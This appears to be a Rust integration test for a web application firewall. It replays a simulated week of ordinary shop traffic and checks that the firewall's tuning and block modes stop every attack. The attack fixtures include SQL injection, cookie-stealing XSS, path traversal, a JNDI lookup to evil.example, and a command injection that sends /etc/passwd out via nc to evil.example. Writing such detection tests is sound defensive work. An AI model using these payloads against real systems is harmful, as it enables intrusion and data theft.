//! The tuning walk of the README on generated traffic: a week in mode `monitor`, `tune`, `lint`, `replay`, and then
//! `block`, which stops no ordinary request and every attack.

mod running;

use std::fmt::Write as _;

use running::Folder;
use serde_json::{Value, json};

/// A field that ordinary clients fill with what the rules of the preset `strict` hit: endpoint, media type, target and body
/// with `{}` for the value, and values.
struct Benign {
    method: &'static str,
    media_type: &'static str,
    target: &'static str,
    body: &'static str,
    values: &'static [&'static str],
    /// Of ten clients, how many use it.
    of_ten: u32,
}

const BENIGN: [Benign; 7] = [
    Benign {
        method: "GET",
        media_type: "",
        target: "/people?name={}&sort=city",
        body: "",
        values: &[
            "O'Brien",
            "D'Angelo 'Tony' L'Heureux",
            "it's 'quoted' and 'again'",
            "Smith",
        ],
        of_ten: 9,
    },
    Benign {
        method: "POST",
        media_type: "application/json",
        target: "/api/articles/{number}/comments",
        body: r#"{"comment":{"text":"{}"},"lang":"en"}"#,
        values: &[
            "select a table from the union of both; update or delete later",
            "please drop the insert and select from the table",
            "don't update the 'union' table, insert from 'select' instead",
        ],
        of_ten: 8,
    },
    Benign {
        method: "POST",
        media_type: "application/x-www-form-urlencoded",
        target: "/profile",
        body: "display=Ann&about={}",
        values: &[
            "I'm 'the' one's 'best'",
            "rock 'n' roll and 'more' rock 'n' roll",
        ],
        of_ten: 6,
    },
    Benign {
        method: "GET",
        media_type: "",
        target: "/reports/{number}?filter={}",
        body: "",
        values: &["name LIKE '%test%'", "city LIKE '%berlin%'"],
        of_ten: 5,
    },
    Benign {
        method: "POST",
        media_type: "application/json",
        target: "/orders",
        body: r#"{"items":[{"sku":"a-1","note":"plain"},{"sku":"b-2","note":"{}"}]}"#,
        values: &[
            "the customer's 'gift' wrap, it's 'special'",
            "leave at neighbour's 'door' 'step'",
        ],
        of_ten: 7,
    },
    Benign {
        method: "GET",
        media_type: "",
        target: "/products/{number}?page={}",
        body: "",
        values: &["1", "2", "3"],
        of_ten: 10,
    },
    Benign {
        method: "POST",
        media_type: "application/json",
        target: "/login",
        body: r#"{"user":"ann","remember":"{}"}"#,
        values: &["true", "false"],
        of_ten: 10,
    },
];

/// Attacks, some of them in the very fields that ordinary clients fill.
const ATTACKS: [(&str, &str, &str, &str); 12] = [
    (
        "GET",
        "",
        "/people?name=1%27%20UNION%20SELECT%20password%20FROM%20users--%20&sort=city",
        "",
    ),
    ("GET", "", "/people?name=x%27%20OR%20%271%27=%271", ""),
    (
        "GET",
        "",
        "/people?name=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        "",
    ),
    (
        "GET",
        "",
        "/reports/7?filter=1%27;DROP%20TABLE%20users;--%20",
        "",
    ),
    ("GET", "", "/products/1?page=1%20AND%20SLEEP(5)", ""),
    ("GET", "", "/products/1?page=../../../../etc/passwd", ""),
    (
        "POST",
        "application/json",
        "/api/articles/3/comments",
        r#"{"comment":{"text":"<img src=x onerror=alert(1)>"},"lang":"en"}"#,
    ),
    (
        "POST",
        "application/json",
        "/api/articles/3/comments",
        r#"{"comment":{"text":"1' UNION SELECT card FROM payments-- "},"lang":"en"}"#,
    ),
    (
        "POST",
        "application/json",
        "/login",
        r#"{"user":"admin' OR '1'='1' -- ","remember":"true"}"#,
    ),
    (
        "POST",
        "application/x-www-form-urlencoded",
        "/profile",
        "display=Ann&about=%24%7Bjndi:ldap://evil.example/a%7D",
    ),
    (
        "POST",
        "application/json",
        "/orders",
        r#"{"items":[{"sku":"a-1","note":"; cat /etc/passwd | nc evil.example 9"}]}"#,
    ),
    (
        "POST",
        "application/x-www-form-urlencoded",
        "/profile",
        "display=Ann&about=x' AND extractvalue(1,concat(0x7e,version()))-- ",
    ),
];

fn encoded(text: &str) -> String {
    text.bytes().fold(String::new(), |mut out, byte| {
        match byte.is_ascii_alphanumeric() {
            true => out.push(char::from(byte)),
            false => {
                let _ = write!(out, "%{byte:02X}");
            }
        }
        out
    })
}

/// One request as `palisade replay` reads it.
fn request(id: &str, method: &str, media_type: &str, target: &str, body: &str) -> Value {
    let (path, query) = target
        .split_once('?')
        .map_or((target, None), |(path, query)| (path, Some(query)));
    let mut headers = vec![
        ["Host", "shop.example"],
        ["User-Agent", "Mozilla/5.0"],
        ["Accept", "*/*"],
    ];
    if !media_type.is_empty() {
        headers.push(["Content-Type", media_type]);
    }
    let mut value =
        json!({"id": id, "method": method, "path": path, "query": query, "headers": headers});
    if !body.is_empty() {
        value["body"] = body.into();
    }
    value
}

/// A request with the client that makes it and the second of the week in which it does.
struct Made {
    request: Value,
    client: String,
    second: u64,
}

const DAY: u64 = 86_400;

/// A week of ordinary clients.
fn benign() -> Vec<Made> {
    let mut made = Vec::new();
    for day in 0..7 {
        for client in 0..30_u64 {
            for (index, kind) in BENIGN.iter().enumerate() {
                // By no chance: the test says the same every time.
                let turn = (client * 7 + day * 3 + index as u64) as usize;
                if turn as u32 % 10 >= kind.of_ten {
                    continue;
                }
                let value = kind.values[turn % kind.values.len()];
                let target = kind
                    .target
                    .replace("{number}", &(turn % 50 + 1).to_string());
                let target = target.replace("{}", &encoded(value));
                let body = match kind.media_type {
                    "application/json" => kind.body.replace("{}", value),
                    _ => kind.body.replace("{}", &encoded(value)),
                };
                let id = format!("benign-{}", made.len());
                made.push(Made {
                    request: request(&id, kind.method, kind.media_type, &target, &body),
                    client: format!("192.0.2.{client}"),
                    second: day * DAY + 600 * client + index as u64,
                });
            }
        }
    }
    made
}

/// The attacks of the same week: all of them by each of two clients, and those on one field by many more.
fn attacks() -> Vec<Made> {
    let mut made = Vec::new();
    for (index, (method, media_type, target, body)) in ATTACKS.iter().enumerate() {
        let everybody = index == 1;
        for client in 0..if everybody { 15 } else { 2_u64 } {
            let id = format!("attack-{index}-{client}");
            made.push(Made {
                request: request(&id, method, media_type, target, body),
                client: format!("198.51.100.{client}"),
                second: (index as u64 % 7) * DAY + 40_000 + client,
            });
        }
    }
    made
}

fn lines(made: &[Made]) -> String {
    made.iter().fold(String::new(), |out, one| {
        out + &one.request.to_string() + "\n"
    })
}

/// The records that the module would have left of the requests, as `palisade replay` decides them.
fn records(folder: &Folder, policy: &str, made: &[Made]) -> String {
    folder.write("requests.jsonl", lines(made));
    let ran = folder.run(&["replay", policy, "requests.jsonl", "--jsonl", "-"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    let mut out = String::new();
    for (line, one) in ran.out.lines().zip(made) {
        let decided: Value = serde_json::from_str(line).expect("a line of its own");
        let second = one.second % DAY;
        let mut record = json!({
            "record": 1,
            "time": format!("2026-11-{:02}T{:02}:{:02}:{:02}.000Z", 9 + one.second / DAY, second / 3600, second / 60 % 60, second % 60),
            "request_id": decided["id"], "client": one.client,
            "method": decided["method"], "host": decided["host"], "path": decided["path"],
        });
        let decision = decided["decision"].as_object().expect("a decision").clone();
        record.as_object_mut().expect("an object").extend(decision);
        // The key that tells a record comes first.
        let text = record.to_string();
        let text = text
            .replacen('{', "{\"record\":1,", 1)
            .replace(",\"record\":1", "");
        let _ = writeln!(
            out,
            "[2026-11-09 00:00:00.000][9][warning][wasm] wasm log palisade: {text}"
        );
    }
    assert_eq!(out.lines().count(), made.len());
    out
}

#[test]
fn a_week_of_monitoring_becomes_a_policy_that_blocks() {
    let folder = Folder::new();
    let (benign, attacks) = (benign(), attacks());
    folder
        .write("policy.yaml", "# The shop.\nname: shop\nrevision: \"1\"\npreset: strict\nmode: monitor # for a week\n")
        .write("benign.jsonl", lines(&benign))
        .write("attacks.jsonl", lines(&attacks));

    // Before: false alarms at five places.
    let before = folder.run(&[
        "replay",
        "policy.yaml",
        "benign.jsonl",
        "--json",
        "--expect",
        "pass",
    ]);
    assert_eq!(before.code, 1);
    let alarms = before.json();
    assert_eq!(
        alarms["stopped"]["endpoints"].as_array().map(Vec::len),
        Some(5),
        "{alarms:#}"
    );
    let ran = folder.run(&[
        "replay",
        "policy.yaml",
        "attacks.jsonl",
        "--as-block",
        "--expect",
        "block",
    ]);
    assert_eq!(ran.code, 0, "{}", ran.out);

    // A week of records, the attacks among them.
    let mut all: Vec<Made> = benign;
    all.extend(attacks);
    all.sort_by_key(|one| one.second);
    let log = records(&folder, "policy.yaml", &all);
    folder.write("envoy.log", &log);

    let ran = folder.run(&["tune", "envoy.log", "--policy", "policy.yaml"]);
    assert_eq!(ran.code, 1, "{}{}", ran.out, ran.err);
    let ran = folder.run(&[
        "tune",
        "envoy.log",
        "--policy",
        "policy.yaml",
        "--write",
        "--yes",
    ]);
    assert_eq!(ran.code, 0, "{}{}", ran.out, ran.err);
    let policy = folder.read("policy.yaml");
    assert!(
        policy.starts_with("# The shop.\nname: shop\n") && policy.contains("monitor # for a week"),
        "{policy}"
    );
    assert_eq!(policy.matches("- id: \"tune-").count(), 5, "{policy}");
    assert!(
        policy.contains("expires: \"") && !policy.contains("rules: [0]"),
        "{policy}"
    );

    // Once more there is nothing left to propose.
    let again = records(&folder, "policy.yaml", &all);
    folder.write("again.log", &again);
    let ran = folder.run(&["tune", "again.log", "--policy", "policy.yaml"]);
    assert_eq!(ran.code, 0, "{}{}", ran.out, ran.err);

    // Block: no false alarm, and every attack.
    folder.write(
        "policy.yaml",
        policy.replace("mode: monitor # for a week", "mode: block"),
    );
    for (input, expected) in [("benign.jsonl", "pass"), ("attacks.jsonl", "block")] {
        let ran = folder.run(&["replay", "policy.yaml", input, "--expect", expected]);
        assert_eq!(ran.code, 0, "{input}: {}", ran.out);
    }
}
